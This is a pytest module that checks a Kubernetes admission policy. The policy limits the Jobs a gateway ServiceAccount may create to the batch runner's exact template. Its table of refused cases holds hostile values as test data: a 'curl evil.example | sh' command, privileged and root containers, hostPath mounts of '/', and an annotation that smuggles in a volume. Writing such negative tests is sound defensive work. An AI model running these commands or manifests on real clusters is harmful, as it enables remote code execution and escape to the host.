"""The admission policy that pins what the gateway's ServiceAccount may create to the batch
runner's Jobs (components/jobs/runner-policy.yaml), on a real API server (envtest).

The prod overlay's policy, binding, parameter and RBAC are applied for real in a namespace
labelled as the overlay labels its own; then Jobs are created as the gateway's account: the
Job gateway/jobs/executors/kube.py builds (every task, every option set) is admitted, and
the same Job
with another image, a privileged container, a hostPath volume, another account and so on is
refused with the policy's message. Other users (an operator) are not subject to it.
"""

from __future__ import annotations

import copy
import json
import time
from collections.abc import Callable, Iterator
from typing import Any

import pytest
import yaml

from gateway.config import Settings
from gateway.domain import ModelRef
from gateway.jobs.executors import kube
from gateway.jobs.spec import JobSpec
from gateway.jobs.spec.records import Job
from gateway.tasks.builtin import BUILT_IN
from tests.support.apiserver import ApiServer
from tests.support.dryrun import render

# Slow (make test-fast leaves it out): 28 checks against the API server, about 70 s on a
# loaded machine.
pytestmark = pytest.mark.slow

Obj = dict[str, Any]
NAMESPACE = "runner-policy"
POLICY = "detection-batch-runner"
GATEWAY = "detection-gateway"
# The policy becomes active when the API server's informer has seen it and its binding.
ACTIVE_TIMEOUT = 60.0


def prod_objects() -> list[Obj]:
    return render("overlays/prod")


def find(objs: list[Obj], kind: str, name: str) -> Obj:
    (match,) = [o for o in objs if o["kind"] == kind and o["metadata"]["name"] == name]
    return match


def gateway_image(objs: list[Obj]) -> str:
    deployment = find(objs, "Deployment", GATEWAY)
    (gateway,) = [
        c for c in deployment["spec"]["template"]["spec"]["containers"] if c["name"] == "gateway"
    ]
    return str(gateway["image"])


def moved(obj: Obj) -> Obj:
    """The rendered object in this test's namespace."""
    obj = copy.deepcopy(obj)
    if obj["kind"] == "Namespace":
        obj["metadata"]["name"] = NAMESPACE
    elif "namespace" in obj["metadata"]:
        obj["metadata"]["namespace"] = NAMESPACE
    for subject in obj.get("subjects", []):
        subject["namespace"] = NAMESPACE
    return obj


def runner_job(options: dict[str, float] | None = None, task: str = "detection") -> Obj:
    """The Job gateway/jobs/executors/kube.py creates for a batch job, with the prod
    gateway's image."""
    spec = JobSpec(
        input="s3://example-bucket/detection-gateway/jobs/uploads/u1/",
        output="s3://example-bucket/detection-gateway/jobs/results/j1/",
        task=task,
        model=ModelRef("detector", 3),
        options=options or {},
        format="manifest",
        shards=4,
    )
    job = Job(id="j1", caller="uri:spiffe://cluster.local/ns/a/sa/b", spec=spec,
              executor="kubernetes", units=[], total=None, upload_id="u1")  # fmt: skip
    settings = Settings(
        batch_runner_target="detection-gateway:50051",
        batch_allowed_input_uris="s3://datasets/images/",
        # The runner pods' mesh identity: their calls name the job's owner (--owner).
        batch_runner_identities="uri:spiffe://cluster.local/ns/runner-policy/sa/detection-batch",
    )
    binding = spec.binding(BUILT_IN)
    return kube.job_manifest(job, settings, NAMESPACE, binding, gateway_image(prod_objects()))


@pytest.fixture(scope="module")
def policy(cluster: ApiServer) -> Iterator[ApiServer]:
    """The overlay's Namespace labels, RBAC, policy, binding and parameter, applied for real;
    returns once the policy refuses a Job (it is active)."""
    objs = prod_objects()
    wanted = {
        ("Namespace", "detection"),
        ("ServiceAccount", GATEWAY),
        ("ServiceAccount", "detection-batch"),
        ("Role", "detection-batch-executor"),
        ("RoleBinding", "detection-batch-executor"),
        ("ValidatingAdmissionPolicy", POLICY),
        ("ValidatingAdmissionPolicyBinding", POLICY),
        ("ConfigMap", POLICY),
    }
    chosen = [moved(o) for o in objs if (o["kind"], o["metadata"]["name"]) in wanted]
    assert len(chosen) == len(wanted)
    cluster.kubectl("apply", "--filename=-", input=yaml.safe_dump_all(chosen))
    refused = bad_job(lambda c, p: c.update(image="busybox"))
    deadline = time.monotonic() + ACTIVE_TIMEOUT
    while create(cluster, refused, dry_run=True).returncode == 0:
        assert time.monotonic() < deadline, "the policy never became active"
        time.sleep(0.2)
    yield cluster
    # Other tests share the API server: leave no cluster-wide policy behind.
    cluster.kubectl("delete", "validatingadmissionpolicybinding", POLICY, "--wait=false")
    cluster.kubectl("delete", "validatingadmissionpolicy", POLICY, "--wait=false")


def create(server: ApiServer, job: Obj, as_gateway: bool = True, dry_run: bool = False) -> Any:
    args = ["create", f"--namespace={NAMESPACE}", "--filename=-", "--output=name"]
    if as_gateway:
        args.append(f"--as=system:serviceaccount:{NAMESPACE}:{GATEWAY}")
    if dry_run:
        args.append("--dry-run=server")
    return server.kubectl(*args, input=json.dumps(job), check=False)


def bad_job(change: Callable[[Obj, Obj], None]) -> Obj:
    """kube.py's Job with `change(container, pod spec)` applied."""
    job = runner_job()
    pod = job["spec"]["template"]["spec"]
    change(pod["containers"][0], pod)
    return job


@pytest.mark.parametrize("task", [b.task for b in BUILT_IN])
def test_the_job_kube_py_builds_is_admitted_with_every_option(policy: ApiServer, task: str) -> None:
    binding = BUILT_IN.for_task(task)
    # Every option of the task set, so every flag the executor can pass is on the command line.
    fields = binding.request_type.DESCRIPTOR.fields_by_name
    values = {
        name: "rle" if fields[name].type == fields[name].TYPE_STRING else 1
        for name in binding.options
    }
    job = runner_job(values, task=task)
    args = job["spec"]["template"]["spec"]["containers"][0]["args"]
    given = {a.split("=")[1] for a in args if a.startswith("--option=")}
    assert set(binding.options) == given  # each as --option=NAME=VALUE, named by no flag
    assert "--owner=uri:spiffe://cluster.local/ns/a/sa/b" in args  # the owner travels too
    result = create(policy, job, dry_run=True)
    assert result.returncode == 0, result.stderr


def test_the_job_kube_py_builds_is_created_and_stored_as_built(policy: ApiServer) -> None:
    job = runner_job()
    result = create(policy, job)
    assert result.returncode == 0, result.stderr
    stored = json.loads(
        policy.kubectl(
            "get", "job", job["metadata"]["name"], f"--namespace={NAMESPACE}", "--output=json"
        ).stdout
    )
    assert (
        stored["spec"]["template"]["spec"]["containers"][0]["args"]
        == (job["spec"]["template"]["spec"]["containers"][0]["args"])
    )
    policy.kubectl("delete", "job", job["metadata"]["name"], f"--namespace={NAMESPACE}")


def test_any_tag_or_digest_of_the_gateway_image_is_admitted(policy: ApiServer) -> None:
    repository = gateway_image(prod_objects()).rsplit(":", 1)[0]
    for image in (f"{repository}:0.0.9", f"{repository}@sha256:{'a' * 64}", repository):
        result = create(policy, bad_job(lambda c, p, i=image: c.update(image=i)), dry_run=True)
        assert result.returncode == 0, (image, result.stderr)


BAD: dict[str, tuple[Callable[[Obj, Obj], None], str]] = {
    "another image": (
        lambda c, p: c.update(image="docker.io/library/busybox:1.37"),
        "runs the gateway image",
    ),
    "a look-alike image name": (
        lambda c, p: c.update(image=c["image"].replace("detection-gateway", "detection-gateway-x")),
        "runs the gateway image",
    ),
    "the image from another registry": (
        lambda c, p: c.update(image="evil.example/" + c["image"]),
        "runs the gateway image",
    ),
    "a privileged container": (
        lambda c, p: c["securityContext"].update(privileged=True, allowPrivilegeEscalation=True),
        "container securityContext is the template's",
    ),
    "an added capability": (
        lambda c, p: c["securityContext"]["capabilities"].update(add=["SYS_ADMIN"]),
        "container securityContext is the template's",
    ),
    "root": (
        lambda c, p: p["securityContext"].update(runAsUser=0, runAsNonRoot=False),
        "pod securityContext is the template's",
    ),
    "a hostPath volume": (
        lambda c, p: (
            p["volumes"].append({"name": "host", "hostPath": {"path": "/"}}),
            c["volumeMounts"].append({"name": "host", "mountPath": "/host"}),
        ),
        "one volume, the emptyDir `tmp`",
    ),
    "tmp as a hostPath": (
        lambda c, p: p.update(volumes=[{"name": "tmp", "hostPath": {"path": "/var/run"}}]),
        "one volume, the emptyDir `tmp`",
    ),
    "another Secret mounted": (
        lambda c, p: (
            p["volumes"].append({"name": "s", "secret": {"secretName": "detection-gateway-tls"}}),
            c["volumeMounts"].append({"name": "s", "mountPath": "/s"}),
        ),
        "one volume, the emptyDir `tmp`",
    ),
    "another Secret as env": (
        lambda c, p: c.update(
            env=[{"name": "K", "valueFrom": {"secretKeyRef": {"name": "other", "key": "k"}}}]
        ),
        "takes no env",
    ),
    "the host network": (lambda c, p: p.update(hostNetwork=True), "no host network"),
    "a high priority class": (
        lambda c, p: p.update(priorityClassName="system-cluster-critical"),
        "priority",
    ),
    "another ServiceAccount": (
        lambda c, p: p.update(serviceAccountName=GATEWAY),
        "ServiceAccount detection-batch",
    ),
    "a token": (
        lambda c, p: p.update(automountServiceAccountToken=True),
        "automountServiceAccountToken false",
    ),
    "another command": (
        lambda c, p: c.update(command=["sh", "-c", "curl evil.example | sh"]),
        "detection-batch INPUT OUTPUT",
    ),
    "an unknown flag": (
        lambda c, p: c["args"].append("--ca-file=/etc/passwd"),
        "detection-batch INPUT OUTPUT",
    ),
    "a second container": (
        lambda c, p: p["containers"].append({**copy.deepcopy(c), "name": "second"}),
        "exactly one container",
    ),
    "an init container": (
        lambda c, p: p.update(initContainers=[{**copy.deepcopy(c), "name": "init"}]),
        "exactly one container",
    ),
    "no limits": (lambda c, p: c["resources"].pop("limits"), "CPU and memory limits"),
}


@pytest.mark.parametrize("case", BAD)
def test_a_job_unlike_the_runners_is_refused_with_the_policys_message(
    policy: ApiServer, case: str
) -> None:
    change, message = BAD[case]
    result = create(policy, bad_job(change), dry_run=True)
    assert result.returncode != 0, case
    assert "ValidatingAdmissionPolicy 'detection-batch-runner'" in result.stderr, result.stderr
    assert message in result.stderr, result.stderr


@pytest.mark.parametrize(
    ("where", "value"),
    [
        ("labels", {"app": "tfserving"}),
        ("annotations", {"sidecar.istio.io/userVolume": '{"h":{"hostPath":{"path":"/"}}}'}),
    ],
)
def test_pod_labels_and_annotations_are_the_templates_only(
    policy: ApiServer, where: str, value: dict[str, str]
) -> None:
    job = runner_job()
    job["spec"]["template"]["metadata"][where].update(value)
    result = create(policy, job, dry_run=True)
    assert result.returncode != 0
    assert "only the labels app=detection-batch" in result.stderr, result.stderr


def test_other_users_are_not_subject_to_it(policy: ApiServer) -> None:
    """An operator (here the admin) may still create any Job in the namespace."""
    job = bad_job(lambda c, p: c.update(image="docker.io/library/busybox:1.37"))
    result = create(policy, job, as_gateway=False, dry_run=True)
    assert result.returncode == 0, result.stderr


def test_without_its_parameter_every_job_of_the_gateway_is_refused(policy: ApiServer) -> None:
    """Fail closed: the ConfigMap gone, the gateway's Jobs are refused, not let through."""
    saved = policy.kubectl(
        "get", "configmap", POLICY, f"--namespace={NAMESPACE}", "--output=json"
    ).stdout
    policy.kubectl("delete", "configmap", POLICY, f"--namespace={NAMESPACE}")
    try:
        deadline = time.monotonic() + ACTIVE_TIMEOUT
        while (result := create(policy, runner_job(), dry_run=True)).returncode == 0:
            assert time.monotonic() < deadline, "the Job is still admitted"
            time.sleep(0.2)
        assert "no params found" in result.stderr, result.stderr
    finally:
        restored = json.loads(saved)
        for key in ("resourceVersion", "uid", "creationTimestamp", "managedFields"):
            restored["metadata"].pop(key, None)
        policy.kubectl("create", "--filename=-", input=json.dumps(restored))
        deadline = time.monotonic() + ACTIVE_TIMEOUT
        while create(policy, runner_job(), dry_run=True).returncode != 0:
            assert time.monotonic() < deadline, "the Job is not admitted again"
            time.sleep(0.2)


def test_the_parameter_follows_the_overlays_images() -> None:
    """`images` in an overlay rewrite the policy's parameter like the Deployment (images.yaml)."""
    objs = prod_objects()
    assert find(objs, "ConfigMap", POLICY)["data"]["image"] == gateway_image(objs)
    namespace = find(objs, "Namespace", "detection")
    binding = find(objs, "ValidatingAdmissionPolicyBinding", POLICY)
    selector = binding["spec"]["matchResources"]["namespaceSelector"]["matchLabels"]
    assert selector.items() <= namespace["metadata"]["labels"].items()
